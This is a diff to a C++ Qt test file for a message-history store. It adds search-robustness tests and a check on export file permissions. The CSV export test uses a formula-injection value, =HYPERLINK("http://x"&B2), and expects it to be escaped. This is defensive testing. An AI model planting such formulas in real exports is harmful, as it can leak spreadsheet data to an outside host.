@@ -6,6 +6,7 @@
 
 #include "history/historymodel.h"
 #include "history/historystore.h"
+#include "history/searchterm.h"
 #include "tests/support/historyfixture.h"
 
 #include <QDir>
@@ -46,6 +47,8 @@ private slots:
     void search_data();
     void search();
     void searchAcrossIndexMark();
+    void searchTakesWhatAPersonTypes_data();
+    void searchTakesWhatAPersonTypes();
     void exportsCsv();
     void failedExportLeavesNoFile();
 };
@@ -183,6 +186,44 @@ void tst_HistoryRows::searchAcrossIndexMark()
     QVERIFY(raw.exec(u"ROLLBACK"_s));
 }
 
+void tst_HistoryRows::searchTakesWhatAPersonTypes_data()
+{
+    QTest::addColumn<QString>("filter");
+    QTest::addColumn<QString>("sameAs"); // the filter that must find the same rows, and finds some
+    const QString emoji = u"\U0001F600"_s;
+    QTest::newRow("NUL in the term") << u"oth\0er 1"_s << u"other 1"_s;
+    QTest::newRow("17,000 stars") << QString(17000, u'*') << QString(SearchTerm::maximumLength, u'*');
+    QTest::newRow("17,000 brackets") << QString(17000, u'[') << QString(SearchTerm::maximumLength, u'[');
+    QTest::newRow("17,000 CJK characters") << QString(17000, u'漢') << QString(SearchTerm::maximumLength, u'漢');
+    QTest::newRow("lone surrogate") << u"ab"_s + QChar(0xD83D) << u"ab\uFFFD"_s;
+    QTest::newRow("cut before a surrogate pair") << u"x"_s + emoji.repeated(9000)
+                                                 << u"x"_s + emoji.repeated(SearchTerm::maximumLength / 2 - 1);
+}
+
+// Terms that SQLite would refuse, or cut at a NUL, find what their usable
+// part finds, in rows both in the full-text index and above its mark.
+void tst_HistoryRows::searchTakesWhatAPersonTypes()
+{
+    QFETCH(QString, filter);
+    QFETCH(QString, sameAs);
+    HistoryStore store(file());
+    const QStringList long_{QString(250, u'*'), QString(250, u'['), QString(250, u'漢'),
+                            u"x"_s + u"\U0001F600"_s.repeated(150), u"ab\uFFFD"_s};
+    // Rows 0 to 4 end in the index's first batch of 64, rows 65 to 69 above it.
+    for (int i = 0; i < 70; ++i) {
+        const QString message = i % 65 < long_.size() ? long_.at(i % 65) : u"Hello"_s;
+        QVERIFY(store.begin(historySend(u"Other %1"_s.arg(i), u"00447911000001"_s, message)));
+    }
+    const auto found = [&store](const QString &term) {
+        const auto rows = store.records({.filter = term});
+        return rows ? idsOf(*rows) : QList<qint64>{-1};
+    };
+    const QList<qint64> expected = found(sameAs);
+    QVERIFY(!expected.isEmpty() && expected.first() > 0);
+    QCOMPARE(found(filter), expected);
+    QVERIFY2(store.errorString().isEmpty(), qPrintable(store.errorString()));
+}
+
 void tst_HistoryRows::exportsCsv()
 {
     HistoryStore store(file());
@@ -190,7 +231,9 @@ void tst_HistoryRows::exportsCsv()
     quoted.time = QDateTime(QDate(2026, 3, 1), QTime(9, 5, 7, 12), Qt::UTC);
     const qint64 first = store.begin(quoted).value();
     QVERIFY(store.finish(first, State::NotKnown, u"the answer was cut short"_s, 30000ms));
-    const qint64 second = store.begin(historySend(u"Zoë"_s, u"00491701234567"_s, u"Grüße \U0001F600"_s)).value();
+    const qint64 second
+        = store.begin(historySend(u"=HYPERLINK(\"http://x\"&B2)"_s, u"00491701234567"_s, u"Grüße \U0001F600"_s))
+              .value();
 
     const QString csv = m_dir->filePath(u"out/history.csv"_s);
     QVERIFY(QDir().mkpath(QFileInfo(csv).path()));
@@ -206,12 +249,13 @@ void tst_HistoryRows::exportsCsv()
     QCOMPARE(python.exitCode(), 0);
     const QJsonArray rows = QJsonDocument::fromJson(python.readAllStandardOutput()).array();
     const auto line = [](const QStringList &fields) { return QJsonArray::fromStringList(fields); };
-    const HistoryRecord zoe = store.record(second).value();
+    const HistoryRecord newer = store.record(second).value();
     const QJsonArray expected{
         line({u"id"_s, u"time"_s, u"sender_name"_s, u"sender_number"_s, u"recipient_name"_s, u"recipient_number"_s,
               u"message"_s, u"culture"_s, u"endpoint"_s, u"state"_s, u"reason"_s, u"duration_ms"_s}),
-        line({QString::number(second), zoe.time.toString(Qt::ISODateWithMs), u"Alice"_s, u"00441234567890"_s,
-              u"Zoë"_s, u"00491701234567"_s, u"Grüße \U0001F600"_s, u"en-GB"_s, u"http://127.0.0.1:47159/"_s,
+        line({QString::number(second), newer.time.toString(Qt::ISODateWithMs), u"Alice"_s, u"00441234567890"_s,
+              u"'=HYPERLINK(\"http://x\"&B2)"_s, u"00491701234567"_s, u"Grüße \U0001F600"_s, u"en-GB"_s,
+              u"http://127.0.0.1:47159/"_s,
               u"sending"_s, QString(), QString()}),
         line({QString::number(first), u"2026-03-01T09:05:07.012Z"_s, u"Alice"_s, u"00441234567890"_s,
               u"Smith, Ann"_s, u"00447911000001"_s, u"She said \"hi\",\r\nthen left"_s, u"en-GB"_s,
@@ -222,6 +266,10 @@ void tst_HistoryRows::exportsCsv()
     QFile raw(csv);
     QVERIFY(raw.open(QIODevice::ReadOnly));
     QVERIFY(raw.readLine().endsWith("duration_ms\r\n"));
+    // Other people's numbers and messages: the fixture's umask would let
+    // anyone read a file created without a mode of its own.
+    const QFileDevice::Permissions others = QFile::ReadGroup | QFile::WriteGroup | QFile::ReadOther | QFile::WriteOther;
+    QCOMPARE(raw.permissions() & others, QFileDevice::Permissions());
 }
 
 void tst_HistoryRows::failedExportLeavesNoFile()
